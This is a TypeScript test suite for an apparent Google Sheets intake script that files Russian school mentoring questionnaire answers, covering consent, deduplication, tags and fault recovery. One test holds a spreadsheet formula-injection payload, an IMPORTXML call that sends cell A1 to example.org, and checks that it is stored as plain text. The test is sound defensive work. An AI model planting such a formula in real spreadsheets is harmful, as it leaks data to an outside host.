import type { Fault, Host } from '../../host/contract';
import { answer, callsOf, column, deaths, menu, preparedSchool, pupil, records, teacher } from './school';

let host: Host;

beforeEach(async () => {
  host = await preparedSchool();
});

afterEach(() => host.close());

const names = () => column(host, 'Наставляемые', 'ФИО наставляемого');
const NAME = 'Фамилия, имя, отчество';
const PHONE = 'Телефон для связи (для учеников до 18 лет – телефон родителя)';

test('an answer becomes one row, with its tags and its status', async () => {
  await answer(host, 'mentees', pupil());

  await menu(host, 'receiveAnswers');

  expect(records(host, 'Наставляемые')).toEqual([
    expect.objectContaining({
      '№ п/п': 'Н-0001',
      'ФИО наставляемого': 'Зорина Алиса Петровна',
      Класс: '6А',
      Статус: 'В базе',
      'Контактные данные для связи (данные представителя)': '+79000002101',
    }),
  ]);
  expect(column(host, 'Наставляемые', '#Теги запроса')[0]).toContain('#математика');
});

test('taking answers in again adds nothing', async () => {
  await answer(host, 'mentees', pupil());
  await menu(host, 'receiveAnswers');

  await menu(host, 'receiveAnswers');

  expect(names()).toHaveLength(1);
  expect(records(host, 'Принятые ответы')).toHaveLength(1);
});

test('a repeated answer updates the row and the earlier value stays in the journal', async () => {
  await answer(host, 'mentees', pupil());
  await menu(host, 'receiveAnswers');
  await answer(host, 'mentees', pupil({ 'Класс (для учеников)': '6Б' }));

  await menu(host, 'receiveAnswers');

  expect(column(host, 'Наставляемые', 'Класс')).toEqual(['6Б']);
  expect(String(column(host, 'Журнал', 'Прежние значения')[0])).toContain('6А');
});

test('a minor without the consent of a parent waits, and a refusal is not entered at all', async () => {
  await answer(host, 'mentees', pupil({ 'Письменное согласие родителя (для учеников до 18 лет)': 'Сдам позже' }));
  await answer(
    host,
    'mentees',
    pupil({ [NAME]: 'Отказова Нина Ильинична', 'Согласие на обработку персональных данных': 'Не даю согласие' }),
  );

  await menu(host, 'receiveAnswers');

  expect(column(host, 'Наставляемые', 'Статус')).toEqual(['Ждёт согласия']);
  expect(JSON.stringify(host.values('Наставляемые'))).not.toContain('Отказова');
});

test('a formula in an answer is stored as text and never evaluated', async () => {
  const hostile = '=IMPORTXML("http://example.org/?"&A1;"//a")';
  await answer(host, 'mentees', pupil({ 'Опишите запрос своими словами': hostile }));

  await menu(host, 'receiveAnswers');

  expect(String(column(host, 'Наставляемые', 'Основной запрос наставляемого')[0]).replace(/^'/, '')).toBe(hostile);
  expect(
    host
      .formulas('Наставляемые')
      .flat()
      .filter((formula) => formula !== ''),
  ).toEqual([]);
});

test('a word the dictionary does not know goes to the inbox, and the decision on it is obeyed', async () => {
  await answer(
    host,
    'mentees',
    pupil({ 'С чем Вам нужна помощь наставника? (можно выбрать несколько)': ['Математика', 'каллиграфия тушью'] }),
  );
  await menu(host, 'receiveAnswers');

  expect(column(host, 'Новые слова', 'Слово из анкеты')).toEqual(['каллиграфия тушью']);
  host.type('Новые слова', 2, 3, [['Синоним тега', '#рисование']]);
  await menu(host, 'receiveAnswers');
  await menu(host, 'receiveAnswers');

  expect(column(host, 'Наставляемые', '#Теги запроса')).toEqual(['#математика #рисование']);
  expect(column(host, 'Новые слова', 'Решение применено')[0]).not.toBe('');
});

test('an answer whose trigger never came is taken in by the hourly one', async () => {
  await answer(host, 'mentees', pupil());

  await host.fire('hourly');

  expect(names()).toHaveLength(1);
});

test('a row typed by hand gets a number', async () => {
  host.type('Наставляемые', 2, 2, [['Ручной Иван Ильич']]);

  await menu(host, 'receiveAnswers');

  expect(column(host, 'Наставляемые', '№ п/п')).toEqual(['Н-0001']);
});

test('two executions at once take every answer in exactly once', async () => {
  await answer(host, 'mentees', pupil());
  await answer(host, 'mentors', teacher());

  await Promise.all([host.run('receiveAnswers'), host.run('onFormAnswer'), host.run('everyHour')]);
  await menu(host, 'receiveAnswers');

  expect(names()).toHaveLength(1);
  expect(column(host, 'Наставники', '№ п/п')).toEqual(['М-0001']);
  expect(records(host, 'Принятые ответы')).toHaveLength(2);
});

test('five answers or five hundred, taking them in waits for Google ten times at most', async () => {
  const letters = 'абвгдежзиклмнопрстуфхцчшэюя';
  let people = 0;
  for (const count of [5, 500]) {
    for (let index = 0; index < count; index++) {
      people += 1;
      const name = `Р${letters[people % 27]}${letters[Math.floor(people / 27)]}ова Алла Петровна`;
      await answer(
        host,
        'mentees',
        pupil({ [NAME]: name, [PHONE]: `+7 900 1${String(people).padStart(3, '0')}-10-10` }),
      );
    }
    const { roundTrips } = await menu(host, 'receiveAnswers');

    expect(roundTrips).toBeLessThanOrEqual(10);
    expect(names()).toHaveLength(people);
  }
}, 120_000);

/** Breaks the taking in of one new answer in every way given, and each time runs it again. */
async function breakEverywhere(breaks: (calls: number) => Fault[]): Promise<{ broken: number; calls: number }> {
  const letters = 'абвгдежзиклмнопрстуфхцчшэюя';
  let people = 0;
  const newPupil = () => {
    people += 1;
    const name = `Зор${letters[people % 27]}${letters[Math.floor(people / 27)]}ина Алла Петровна`;
    return answer(
      host,
      'mentees',
      pupil({ [NAME]: name, [PHONE]: `+7 900 1${String(people).padStart(2, '0')}-10-10` }),
    );
  };
  await newPupil();
  const calls = callsOf(await menu(host, 'receiveAnswers'));
  let broken = 0;
  for (const fault of breaks(calls)) {
    await newPupil();
    const { answer: said, ok } = await attempt(fault);
    if (!ok || said) broken += 1;
    await menu(host, 'receiveAnswers');

    const ids = column(host, 'Принятые ответы', 'Код ответа');
    expect(new Set(ids).size).toBe(people);
    expect(ids).toHaveLength(people);
    const numbers = column(host, 'Наставляемые', '№ п/п').filter((id) => id !== '');
    expect(new Set(numbers).size).toBe(numbers.length);
    expect(new Set(names()).size).toBe(people);
  }
  return { broken, calls };
}

/** Whether the run ended by itself, and whether it logged a fault. */
async function attempt(fault: Fault): Promise<{ ok: boolean; answer: boolean }> {
  const outcome = await host.run('receiveAnswers', [], { faults: [fault] });
  return { ok: outcome.ok, answer: outcome.log.length > 0 };
}

test('killed at any call and run again, nothing is lost and nothing is doubled', async () => {
  const { broken, calls } = await breakEverywhere(deaths);

  expect(broken).toBeGreaterThan(calls / 2);
}, 180_000);

test('whatever call fails, before or after its effect, in English or in Russian, running again makes it good', async () => {
  const texts = [
    'Service Spreadsheets timed out while accessing document with id 1AbC.',
    'К сожалению, произошла ошибка сервера: DEADLINE_EXCEEDED',
    'Something nobody has seen before.',
  ];
  const { broken, calls } = await breakEverywhere((count) =>
    Array.from({ length: count }, (_, index) => ({
      at: index + 1,
      kind: index % 2 === 0 ? ('failAfter' as const) : ('fail' as const),
      message: texts[index % texts.length] ?? '',
      times: index % 4 === 3 ? 1 : 20,
    })),
  );

  expect(broken).toBeGreaterThan(calls / 4);
}, 180_000);
